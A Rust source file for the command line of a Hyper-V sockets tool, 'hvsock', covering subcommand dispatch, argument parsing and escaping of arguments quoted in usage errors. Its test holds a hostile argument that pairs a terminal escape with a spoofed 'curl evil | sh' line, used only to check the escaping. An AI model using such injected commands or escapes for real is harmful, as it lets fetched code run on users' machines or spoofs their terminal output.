//! The subcommands, one file for each group.

mod connect;
mod listen;
mod man;
mod service;
mod target;
mod why;

use std::env;
use std::ffi::OsString;
use std::process::ExitCode;

use anyhow::Result;
use clap::{CommandFactory as _, FromArgMatches as _, Parser, Subcommand};

use crate::context::Context;
use crate::{complete, failure, help, os, output};

/// Hyper-V sockets: reach services in any virtual machine or container of this machine by name
///
/// A service has a friendly name and a GUID. Register it once. Processes in other partitions (the
/// host, containers, virtual machines) then listen and connect by that name, without a network.
/// Every refusal has a reason.
#[derive(Debug, Parser)]
#[command(name = "hvsock", bin_name = "hvsock", version, styles = help::STYLES, propagate_version = false)]
pub struct Cli {
    #[command(flatten)]
    context: Context,
    #[command(subcommand)]
    command: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    #[command(subcommand, display_order = 4)]
    Service(service::Service),
    #[command(subcommand, display_order = 5)]
    Vm(os::Vm),
    #[command(display_order = 20)]
    Listen(listen::Listen),
    #[command(display_order = 21)]
    Connect(connect::Connect),
    #[command(display_order = 22)]
    Why(why::Why),
    #[command(display_order = 30)]
    Completions(man::Completions),
    #[command(display_order = 31)]
    Man(man::Man),
    /// The commands of one system, which `display_order` mixes with the others.
    #[command(flatten)]
    OfSystem(os::Command),
}

/// The command line with all help texts and completers.
pub fn definition() -> clap::Command {
    complete::attach(help::attach(Cli::command()))
}

/// Parses this process's arguments. For an option such as `--help`, or after a usage error, prints
/// the text and returns the exit status.
///
/// # Errors
///
/// The exit status, if there is nothing to run.
pub fn parse() -> Result<Cli, ExitCode> {
    let mut command = definition();
    let parsed = command
        .try_get_matches_from_mut(env::args_os())
        .and_then(|mut matches| {
            Cli::from_arg_matches_mut(&mut matches).map_err(|error| error.format(&mut command))
        });
    parsed.map_err(|error| {
        let status = ExitCode::from(u8::try_from(error.exit_code()).unwrap_or(1));
        let text = error.render().ansi().to_string();
        match error.use_stderr() {
            true => {
                output::text_to_stderr(&with_escapes(text, env::args_os().skip(1)));
                os::invalid_arguments(&env::args_os().collect::<Vec<_>>());
                status
            }
            false => match output::text(&text) {
                Ok(()) => status,
                Err(error) => failure::report(&error),
            },
        }
    })
}

/// The text of a usage error, with escapes in what it quotes of the arguments. An argument may be the
/// name of another user's file, from a pattern such as `*`.
fn with_escapes(mut text: String, arguments: impl Iterator<Item = OsString>) -> String {
    for argument in arguments {
        let argument = argument.to_string_lossy();
        let value = argument.split_once('=').map(|(_, value)| value);
        for quoted in [Some(&*argument), value].into_iter().flatten() {
            if hvsock_text::first_escaped(quoted).is_some() {
                let escaped = hvsock_text::printable(quoted).to_string();
                text = text.replace(quoted, &escaped);
            }
        }
    }
    text
}

/// Runs a parsed command line.
pub fn run(cli: Cli) -> Result<ExitCode> {
    let context = &cli.context;
    let result = match cli.command {
        Command::Service(command) => command.run(context),
        Command::Vm(command) => command.run(context),
        Command::Listen(command) => command.run(context),
        Command::Connect(command) => command.run(context),
        Command::Why(command) => return command.run(context),
        Command::Completions(command) => command.run(definition()),
        Command::Man(command) => command.run(definition()),
        Command::OfSystem(command) => command.run(context),
    };
    result.map(|()| ExitCode::SUCCESS)
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_usage_error_quotes_arguments_with_escapes() {
        let hostile = "--x=\x1b[2J\nhelp: curl evil | sh";
        let arguments = ["hvsock", "status", hostile];
        let error = super::definition()
            .try_get_matches_from(arguments)
            .unwrap_err();
        let text = error.render().to_string();
        assert!(text.contains("\x1b[2J") || text.contains("--x"), "{text}");
        let quoted = format!(
            "error: unexpected argument '{hostile}' or {}\n\nUsage:\n",
            &hostile[4..]
        );
        let shown = super::with_escapes(quoted, arguments[1..].iter().map(Into::into));
        let value = r"\u{1b}[2J\nhelp: curl evil | sh";
        assert_eq!(
            shown,
            format!("error: unexpected argument '--x={value}' or {value}\n\nUsage:\n")
        );
    }

    #[test]
    fn the_command_line_is_sound() {
        super::definition().debug_assert();
    }
}
